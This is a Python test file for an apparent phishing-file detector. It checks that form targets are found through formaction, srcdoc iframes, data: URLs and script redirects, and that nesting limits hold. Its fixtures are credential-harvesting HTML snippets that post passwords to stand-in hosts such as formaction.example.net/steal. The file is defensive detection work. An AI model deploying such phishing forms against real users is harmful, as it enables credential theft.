"""HTML forms that submit elsewhere, and pages nested in a page (srcdoc, data:)."""

from __future__ import annotations

import base64
import html
import time
from urllib.parse import quote

from trustwatch.content import Extraction, FoundForm, extract_content
from trustwatch.detectors.file_phishing import assess_file, file_findings

PLATFORM = "files.trustwatch.example"


def _extract(page: bytes, base_host: str | None = None) -> Extraction:
    return extract_content(page, name="page.html", base_host=base_host)


def _targets(
    page: bytes, base_host: str | None = PLATFORM
) -> list[tuple[str | None, str]]:
    return [(f.action, f.method) for f in _extract(page, base_host=base_host).forms]


def _data_url(page: str) -> str:
    return "data:text/html;base64," + base64.b64encode(page.encode()).decode()


def _credential_finding(page: bytes) -> tuple[float, tuple[str, ...]]:
    extraction = _extract(page)
    assessment = assess_file(extraction, platform_domains=("trustwatch.example",))
    (finding,) = [
        f for f in file_findings(assessment) if f.kind == "file_credential_form"
    ]
    return finding.score, finding.reasons


# ---------------------------------------------------------------- formaction


def test_a_button_formaction_is_where_the_form_posts() -> None:
    page = (
        b"<form method=post><input type=password name=p>"
        b'<button formaction="https://formaction.example.net/steal">Go</button>'
        b"</form>"
    )
    result = _extract(page, base_host=PLATFORM)
    assert result.forms == (
        FoundForm(
            action="https://formaction.example.net/steal",
            method="post",
            has_password=True,
            fields=("p",),
            posts_to_other_domain=True,
        ),
    )
    assert ("https://formaction.example.net/steal", "form_action") in [
        (u.url, u.where) for u in result.urls
    ]
    assert "password_form_other_domain" in result.flags


def test_a_submit_input_formaction_and_formmethod_are_read() -> None:
    page = (
        b"<form><input type=password name=p>"
        b"<input type=submit formaction='//kit.example.net/p' formmethod=POST>"
        b"<input type=image src=go.png formaction='/local'></form>"
    )
    assert _targets(page) == [
        ("https://kit.example.net/p", "post"),
        (f"https://{PLATFORM}/local", "get"),
    ]


def test_the_forms_own_action_stays_a_target_beside_each_formaction() -> None:
    page = (
        b"<form action='/login' method=post><input type=password name=p>"
        b"<button>Sign in</button>"
        b"<button formaction='https://other.example.net/x'>Also</button>"
        b"<button type=button formaction='https://ignored.example.net/'>No</button>"
        b"<button formaction=''>Here</button></form>"
    )
    assert _targets(page) == [
        (f"https://{PLATFORM}/login", "post"),
        ("https://other.example.net/x", "post"),
        (None, "post"),  # an empty formaction submits to the page itself
    ]


def test_a_form_without_buttons_posts_to_its_own_action() -> None:
    page = b"<form action='https://a.example.net/'><input type=password></form>"
    assert _targets(page) == [("https://a.example.net/", "get")]


def test_the_formaction_of_a_whole_credential_form_is_a_cross_domain_finding() -> None:
    page = (
        b"<form method=post><input type=password name=p>"
        b'<button formaction="https://formaction.example.net/steal">Go</button></form>'
    )
    score, reasons = _credential_finding(page)
    assert score >= 0.9
    assert reasons[0].startswith("password form posts to example.net")


def test_controls_join_the_form_their_form_attribute_names() -> None:
    page = (
        b"<input type=password name=early form=login>"
        b"<form id=login action='/in'></form>"
        b"<form id=other></form>"
        b"<input name=user form=login>"
        b"<button form=login formaction='https://kit.example.net/p'>Go</button>"
        b"<form id=third><input type=password name=p form=nowhere></form>"
    )
    forms = _extract(page, base_host=PLATFORM).forms
    assert [(f.action, f.has_password, f.fields) for f in forms] == [
        (f"https://{PLATFORM}/in", True, ("early", "user")),
        ("https://kit.example.net/p", True, ("early", "user")),
        (None, False, ()),
        # a form attribute naming no form takes the control out of every form
        (None, False, ()),
    ]


# ------------------------------------------------------------------- srcdoc


def test_a_form_in_an_iframe_srcdoc_is_read() -> None:
    inner = (
        "<form action='https://srcdoc.example.net/p' method='post'>"
        "<input type='password' name=pw></form><a href='/help'>help</a>"
    )
    page = f'<iframe srcdoc="{html.escape(inner)}"></iframe>'.encode()
    result = _extract(page, base_host=PLATFORM)
    assert result.forms == (
        FoundForm(
            action="https://srcdoc.example.net/p",
            method="post",
            has_password=True,
            fields=("pw",),
            posts_to_other_domain=True,
        ),
    )
    found = [(u.url, u.where) for u in result.urls]
    assert ("https://srcdoc.example.net/p", "form_action") in found
    # a srcdoc page resolves its links against the page that holds it
    assert (f"https://{PLATFORM}/help", "a_href") in found


# ------------------------------------------------------------------- data:


def test_a_base64_data_url_page_is_read_and_flagged() -> None:
    inner = "<form action='https://data.example.net/p'><input type=password></form>"
    page = f'<a href="{_data_url(inner)}">open</a>'.encode()
    result = _extract(page, base_host=PLATFORM)
    assert [u.where for u in result.urls] == ["data_url", "form_action"]
    assert result.forms[0].action == "https://data.example.net/p"
    assert result.forms[0].has_password
    assert "password_form_in_data_url" in result.flags


def test_a_percent_encoded_data_url_page_is_read() -> None:
    inner = "<form><input type=password name=pw></form><a href=https://x.example.net/>"
    for place in ("a href", "iframe src", "object data", "embed src"):
        tag, attribute = place.split()
        page = f"<{tag} {attribute}='data:text/html;charset=utf-8,{quote(inner)}'>"
        result = _extract(page.encode(), base_host=PLATFORM)
        assert result.forms[0].fields == ("pw",), place
        assert "https://x.example.net/" in [u.url for u in result.urls], place
        assert "password_form_in_data_url" in result.flags, place


def test_a_data_url_in_a_script_redirect_is_read() -> None:
    inner = "<form><input type=password></form>"
    page = f"<script>location.href = '{_data_url(inner)}';</script>".encode()
    assert _extract(page).forms[0].has_password


def test_data_urls_that_hold_no_html_or_bad_base64_give_no_page() -> None:
    page = (
        b"<a href='data:image/png;base64,PGZvcm0+PGlucHV0IHR5cGU9cGFzc3dvcmQ+'>a</a>"
        b"<a href='data:text/html;base64,%%%not base64!'>b</a>"
        b"<a href='data:text/html;base64,PGZvcm0+A'>c</a>"
        b"<a href='data:text/html'>d</a>"
    )
    result = _extract(page)
    assert result.forms == ()
    assert result.errors == ()
    assert [u.where for u in result.urls] == ["data_url"] * 4


def test_a_password_form_in_a_data_url_is_a_strong_finding_whatever_its_action() -> (
    None
):
    inner = "<form><input type=password name=pw></form><script>steal()</script>"
    page = f'<a href="{_data_url(inner)}">View document</a>'.encode()
    score, reasons = _credential_finding(page)
    assert score >= 0.9
    assert reasons[0].startswith("a data: URL in the file holds a page")


# ------------------------------------------------------------------ limits


def test_nesting_stops_at_its_depth_limit_and_says_so() -> None:
    inner = "<form action='https://deep.example.net/'><input type=password></form>"
    levels = [inner]
    for depth in range(6):
        holder = (
            f'<iframe srcdoc="{html.escape(levels[-1])}"></iframe>'
            if depth % 2
            else f'<a href="{_data_url(levels[-1])}">x</a>'
        )
        levels.append(holder)
    shallow = _extract(levels[3].encode())
    assert shallow.forms and shallow.errors == () and not shallow.truncated
    deep = _extract(levels[-1].encode())
    assert deep.forms == ()
    assert deep.truncated
    assert any(e.startswith("html_nested_limit") for e in deep.errors)


def test_nested_pages_are_bounded_in_number_and_characters() -> None:
    many = "".join(
        f'<a href="{_data_url(f"<form action=https://h{i}.example.net/></form>")}">x</a>'
        for i in range(500)
    )
    started = time.monotonic()
    result = _extract(many.encode())
    assert len(result.forms) == 64  # the number of nested pages read
    assert result.truncated
    assert any("nested pages were read" in e for e in result.errors)

    # six srcdoc pages of 200,000 characters each: over the shared 1 MiB
    text = "x" * 200_000
    big = "".join(f'<iframe srcdoc="<p>{i}{text}</p>"></iframe>' for i in range(6))
    result = _extract(big.encode())
    assert result.truncated
    assert result.errors == (
        "html_nested_limit: only 1048576 chars of nested pages read",
    )
    assert time.monotonic() - started < 10.0


def test_a_repeated_nested_page_is_read_once() -> None:
    inner = _data_url("<form action=https://once.example.net/><input type=password>")
    page = f'<a href="{inner}">a</a><iframe src="{inner}"></iframe>' * 100
    result = _extract(page.encode())
    assert len(result.forms) == 1
    assert result.errors == ()


def test_a_nested_page_spends_the_work_budget_of_the_file() -> None:
    page = b"<iframe srcdoc='<a href=https://in.example.net/>in</a>'></iframe>" + (
        b"<a href=https://after.example.net/>after</a>" * 10
    )
    result = extract_content(page, name="page.html", time_budget=1e-9)
    assert result.errors == (
        "work_limit: time budget of 1e-09 s spent; the rest of the file was not read",
    )
    assert result.truncated
    assert [u.url for u in result.urls] == ["https://in.example.net/"]
